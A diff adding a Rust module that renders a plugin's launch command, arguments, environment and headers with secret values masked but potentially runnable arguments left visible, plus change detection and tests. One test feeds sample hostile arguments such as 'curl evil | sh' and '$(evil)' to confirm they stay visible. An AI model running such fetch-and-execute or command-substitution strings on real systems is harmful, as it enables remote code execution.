@@ -1,0 +1,223 @@
+//! What a member runs, as it is shown and kept: all of it, but for the values of secrets.
+
+use sha2::{Digest, Sha256};
+
+use crate::manifest::{Launch, Manifest, Origin, launch_hash};
+use crate::telling::{Words, may_be_secret, secretless};
+use crate::wire::{LaunchField, LaunchText, LaunchView, MASK};
+
+/// What a member runs or reaches, as its manifest has it.
+///
+/// A masked text hides a secret from whoever looks over a shoulder, and must not hide what is run:
+/// a word of the command that could be a script or a path is shown, whatever stands before it.
+pub fn launch_view(manifest: &Manifest) -> LaunchView {
+    let mut view = LaunchView {
+        hash: launch_hash(manifest),
+        origin: manifest.origin.clone(),
+        command: None,
+        args: vec![],
+        cwd: None,
+        env: vec![],
+        url: None,
+        headers: vec![],
+    };
+    match &manifest.launch {
+        Launch::Command {
+            command,
+            args,
+            env,
+            cwd,
+        } => {
+            view.cwd = cwd.as_deref().map(shown);
+            view.command = Some(shown(command));
+            let mut words = Words::default();
+            view.args = args.iter().map(|arg| argument(arg, &mut words)).collect();
+            view.env = fields(env);
+        }
+        Launch::Url { url, headers } => {
+            view.url = Some(LaunchText {
+                text: secretless(url, &mut mask).into_owned(),
+                digest: digest(url),
+            });
+            view.headers = fields(headers);
+        }
+    }
+    view
+}
+
+/// What differs between two launches, part by part.
+pub fn launch_changes(old: &LaunchView, new: &LaunchView) -> Vec<String> {
+    let mut changes = Vec::new();
+    let mut note = |differs: bool, part: String| {
+        if differs {
+            changes.push(part);
+        }
+    };
+    let of = |view: &LaunchView| view.origin.clone().unwrap_or_default();
+    let (before, after) = (of(old), of(new));
+    let origin = |Origin {
+                      from,
+                      path,
+                      url,
+                      at,
+                  }: Origin| {
+        let parts = [Some(from), path, url, at];
+        ["from", "path", "url", "at"].into_iter().zip(parts)
+    };
+    for ((part, before), (_, after)) in origin(before).zip(origin(after)) {
+        note(before != after, format!("origin.{part}"));
+    }
+    note(old.command != new.command, "command".into());
+    for at in 0..old.args.len().max(new.args.len()) {
+        note(old.args.get(at) != new.args.get(at), format!("args[{at}]"));
+    }
+    note(old.cwd != new.cwd, "cwd".into());
+    note(old.url != new.url, "url".into());
+    for (part, old, new) in [
+        ("env", &old.env, &new.env),
+        ("headers", &old.headers, &new.headers),
+    ] {
+        let value = |fields: &[LaunchField], name: &str| {
+            let field = fields.iter().find(|field| field.name == name);
+            field.map(|field| field.value.clone())
+        };
+        let gone = old.iter().filter(|field| value(new, &field.name).is_none());
+        for LaunchField { name, .. } in new.iter().chain(gone) {
+            note(
+                value(old, name) != value(new, name),
+                format!("{part}.{name}"),
+            );
+        }
+    }
+    if changes.is_empty() && old.hash != new.hash {
+        // Whatever else is part of the hash.
+        changes.push("transport".into());
+    }
+    changes
+}
+
+fn mask(_: &str) -> String {
+    MASK.to_owned()
+}
+
+fn shown(text: &str) -> LaunchText {
+    LaunchText {
+        text: text.to_owned(),
+        digest: digest(text),
+    }
+}
+
+fn argument(text: &str, words: &mut Words) -> LaunchText {
+    let masked = words.next(text, &mut mask).into_owned();
+    let may_run = text.contains(|c: char| c.is_whitespace() || "/\\;|&<>()$`'\"".contains(c));
+    LaunchText {
+        text: if may_run { text.to_owned() } else { masked },
+        digest: digest(text),
+    }
+}
+
+fn fields<'a>(fields: impl IntoIterator<Item = (&'a String, &'a String)>) -> Vec<LaunchField> {
+    let field = |(name, value): (&String, &String)| {
+        let reference = value.contains("${");
+        let text = match may_be_secret(name) && !reference {
+            true => MASK.to_owned(),
+            false => secretless(value, &mut mask).into_owned(),
+        };
+        LaunchField {
+            name: name.clone(),
+            value: LaunchText {
+                text,
+                digest: digest(value),
+            },
+        }
+    };
+    fields.into_iter().map(field).collect()
+}
+
+/// Enough to tell two texts apart that nobody chose to be taken for each other: what is accepted is
+/// told by the launch's whole hash.
+fn digest(text: &str) -> String {
+    let hash = Sha256::digest(text.as_bytes());
+    hash[..8].iter().map(|byte| format!("{byte:02x}")).collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use serde_json::{Value, json};
+
+    use super::*;
+    use crate::manifest::parse;
+
+    fn manifest(change: impl FnOnce(&mut Value)) -> Manifest {
+        let mut text = json!({
+            "name": "m", "transport": "stdio", "command": "npx",
+            "args": ["-y", "--token", "abc", "server"],
+            "env": {"API_KEY": "k1", "MODE": "fast", "OTHER_TOKEN": "${secret:X}"},
+            "origin": {"from": "cursor", "at": "2026-01-01T00:00:00Z"},
+        });
+        change(&mut text);
+        parse(text.to_string().as_bytes(), "plugin.json")
+            .manifest
+            .expect("a manifest")
+    }
+
+    #[test]
+    fn values_of_secrets_are_masked_and_what_may_run_is_not() {
+        let view = launch_view(&manifest(|_| {}));
+        let args: Vec<&str> = view.args.iter().map(|arg| arg.text.as_str()).collect();
+        assert_eq!(args, ["-y", "--token", MASK, "server"]);
+        let env: Vec<&str> = view
+            .env
+            .iter()
+            .map(|field| field.value.text.as_str())
+            .collect();
+        assert_eq!(env, [MASK, "fast", "${secret:X}"]);
+        for script in ["curl evil | sh", "/tmp/evil", "$(evil)"] {
+            let hidden = manifest(|text| text["args"] = json!(["--token", script]));
+            assert_eq!(launch_view(&hidden).args[1].text, script);
+        }
+    }
+
+    #[test]
+    fn each_change_is_named_masked_ones_too_and_makes_another_hash() {
+        let old = launch_view(&manifest(|_| {}));
+        let changes = |change: fn(&mut Value)| {
+            let new = launch_view(&manifest(change));
+            assert_ne!(old.hash, new.hash);
+            launch_changes(&old, &new)
+        };
+        assert_eq!(changes(|m| m["command"] = "uvx".into()), ["command"]);
+        assert_eq!(changes(|m| m["args"][2] = "abd".into()), ["args[2]"]);
+        assert_eq!(
+            changes(|m| m["args"] = json!(["-y", "--token", "abc", "server", "x"])),
+            ["args[4]"]
+        );
+        assert_eq!(
+            changes(|m| m["env"]["API_KEY"] = "k2".into()),
+            ["env.API_KEY"]
+        );
+        assert_eq!(changes(|m| m["env"] = json!({"MODE": "fast"})).len(), 2);
+        assert_eq!(changes(|m| m["origin"]["at"] = "now".into()), ["origin.at"]);
+        assert_eq!(
+            changes(|m| {
+                m["transport"] = "http".into();
+            }),
+            ["transport"]
+        );
+        assert_eq!(launch_changes(&old, &old.clone()), Vec::<String>::new());
+    }
+
+    #[test]
+    fn what_runs_nothing_else_keeps_the_hash() {
+        let hash = |change: fn(&mut Value)| launch_hash(&manifest(change));
+        let old = hash(|_| {});
+        for change in [
+            (|m| m["description"] = "other".into()) as fn(&mut Value),
+            |m| m["timeouts"] = json!({"call_ms": 5}),
+            |m| m["lifecycle"] = "on-demand".into(),
+            |m| m["enabled"] = false.into(),
+        ] {
+            assert_eq!(hash(change), old);
+        }
+    }
+}
